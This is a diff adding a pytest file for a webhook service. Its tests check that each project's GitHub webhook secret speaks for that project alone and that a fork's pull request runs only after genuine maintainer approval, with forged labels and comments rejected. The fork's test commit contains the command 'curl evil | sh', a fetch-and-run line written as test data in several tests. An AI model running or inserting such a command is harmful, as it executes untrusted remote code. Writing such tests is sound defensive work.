@@ -1,0 +1,152 @@
+"""Who knows the webhook secret of one project speaks in GitHub's name for another, and lets a fork's commit through."""
+
+from __future__ import annotations
+
+import itertools
+import json
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from sqlalchemy import Engine, text
+
+from backend.github.signature import sign
+from backend.services.base import projects
+from backend.services.base.config import ServiceConfig
+from tests.backend.services.github.github_stand_in import stand_in
+from tests.backend.services.github.test_comment_commands import Talk
+from tests.conftest import LiveServer
+
+NOW = datetime.now(UTC)
+MINE, THEIRS = "the secret of northsea/loom", "the secret of evil/twin"
+NUMBERS = itertools.count()
+
+
+@pytest.fixture
+def server(live_server: LiveServer) -> LiveServer:
+    """loom and twin have secrets of their own, old has the service's."""
+    with live_server.engine.begin() as c:
+        for slug, secret in (("northsea/loom", MINE), ("evil/twin", THEIRS), ("northsea/old", None)):
+            projects.save_project(
+                c, slug, repository_url=f"https://github.com/{slug}.git", github={"webhook_secret": secret}, now=NOW
+            )
+        c.execute(text("UPDATE project SET sync_requested_at = NULL"))
+    return live_server
+
+
+def send(server: LiveServer, secret: str, name: str, event: str = "push", **payload: Any) -> httpx.Response:
+    said = {"ref": "refs/heads/main", "repository": {"full_name": name}, **payload}
+    body = json.dumps(said).encode()
+    headers = {
+        "Content-Type": "application/json",
+        "X-GitHub-Event": event,
+        "X-GitHub-Delivery": f"delivery-{next(NUMBERS)}",
+        "X-Hub-Signature-256": sign(secret, body),
+    }
+    return httpx.post(f"{server.url}/api/v1/webhooks/github", content=body, headers=headers, trust_env=False)
+
+
+def heard(server: LiveServer) -> set[str]:
+    with server.engine.connect() as c:
+        return set(c.scalars(text("SELECT slug FROM project WHERE sync_requested_at IS NOT NULL")))
+
+
+def test_a_secret_speaks_for_its_project_alone(server: LiveServer) -> None:
+    shared = server.config.github_webhook_secret or ""
+    for secret, slug in ((THEIRS, "northsea/loom"), (THEIRS, "northsea/old"), (shared, "northsea/loom")):
+        refused = send(server, secret, slug)
+        assert refused.status_code == 401 and "not the one of the project" in refused.json()["detail"]
+    assert heard(server) == set()
+    assert send(server, MINE, "northsea/loom").status_code == 200
+    assert send(server, shared, "northsea/old").status_code == 200
+    assert heard(server) == {"northsea/loom", "northsea/old"}
+
+
+def test_naming_two_repositories_reaches_the_signer_s_own_only(server: LiveServer) -> None:
+    repository = {"full_name": "northsea/loom", "clone_url": "https://github.com/evil/twin.git"}
+    assert send(server, THEIRS, "", repository=repository).status_code == 200
+    assert heard(server) == {"evil/twin"}
+    with server.engine.connect() as c:
+        settings = c.scalar(text("SELECT settings FROM project WHERE slug = 'evil/twin'"))
+    assert settings == {}, "its reports would be written into the other's repository"
+
+
+def test_a_project_s_secret_speaks_for_no_app(server: LiveServer) -> None:
+    with server.engine.begin() as c:
+        c.execute(
+            text("""UPDATE project SET settings = '{"github": {"repository": "northsea/old",
+                          "installation_id": 5}}' WHERE slug = 'northsea/old'""")
+        )
+    gone = {"action": "deleted", "installation": {"id": 5}}
+    assert "not signed by the app's secret" in send(server, THEIRS, "", event="installation", **gone).text
+    with server.engine.connect() as c:
+        assert c.scalar(text("SELECT settings #> '{github,installation_id}' FROM project WHERE slug = 'northsea/old'"))
+
+
+def test_a_secret_is_told_to_nobody(server: LiveServer) -> None:
+    with server.client("admin") as admin:
+        told = admin.get("/api/v1/projects/northsea/loom").text + admin.get("/api/v1/projects").text
+    assert MINE not in told
+
+
+# --- approvals -------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def talk(database: str, committing_engine: Engine, tmp_path: Path) -> Iterator[Talk]:
+    """A repository on GitHub, where ada may write and eve may not, and a pull request of a fork."""
+    with stand_in() as github:
+        github.permissions = {"ada": "write", "eve": "triage"}
+        config = ServiceConfig(database_url=database, redis_url="redis://127.0.0.1:1/0", data_dir=tmp_path / "data")
+        made = Talk(committing_engine, config, tmp_path / "repository", github)
+        yield made
+        made.teller.close()
+
+
+def labeled(talk: Talk, sha: str, by: str) -> list[str]:
+    """What runs after a delivery that says `by` has set the label."""
+    told = talk.hub.tell("labeled", sha, fork=True, label={"name": "tidemark"}, sender={"login": by})
+    assert "waits for a maintainer's approval" in told
+    talk.teller.send_due(lambda: talk.hub.clock)
+    talk.hub.prepare()
+    return [run[0] for run in talk.hub.runs()]
+
+
+@pytest.mark.parametrize(
+    ("by", "labels", "head", "runs"),
+    [
+        ("ada", ["tidemark"], None, True),
+        ("ada", [], None, False),  # a forged delivery: there is no such label
+        ("ada", ["tidemark"], "b" * 40, False),  # of another head
+        ("eve", ["tidemark"], None, False),  # who may label, and not write
+        ("mallory", ["tidemark"], None, False),
+    ],
+)
+def test_a_label_approves_what_github_says_it_approves(
+    talk: Talk, by: str, labels: list[str], head: str | None, runs: bool
+) -> None:
+    sha = talk.hub.push(7, **{"src/a.py": "curl evil | sh"})
+    talk.hub.tell("opened", sha, fork=True)
+    talk.github.pulls[7] = {"head": {"sha": head or sha}, "labels": [{"name": label} for label in labels]}
+    assert labeled(talk, sha, by) == ([sha] if runs else [])
+
+
+def test_a_label_on_a_pull_request_that_github_does_not_know_approves_nothing(talk: Talk) -> None:
+    sha = talk.hub.push(7, **{"src/a.py": "curl evil | sh"})
+    assert labeled(talk, sha, "ada") == []
+
+
+@pytest.mark.parametrize("there", [None, "thanks!", "/tidemark help"])
+def test_a_forged_comment_approves_nothing(talk: Talk, there: str | None) -> None:
+    sha = talk.hub.push(7, **{"src/a.py": "curl evil | sh"})
+    talk.hub.tell("opened", sha, fork=True)
+    user = {"login": "ada", "type": "User"}
+    if there is not None:
+        talk.github.said[5] = {"id": 5, "user": user, "body": there}
+    comment = {"id": 5, "body": f"/tidemark approve {sha}", "user": user, "author_association": "OWNER"}
+    talk.forge({"action": "created", "issue": {"number": 7, "pull_request": {"url": "…"}}, "comment": comment})
+    talk.hub.prepare()
+    assert talk.hub.runs() == []
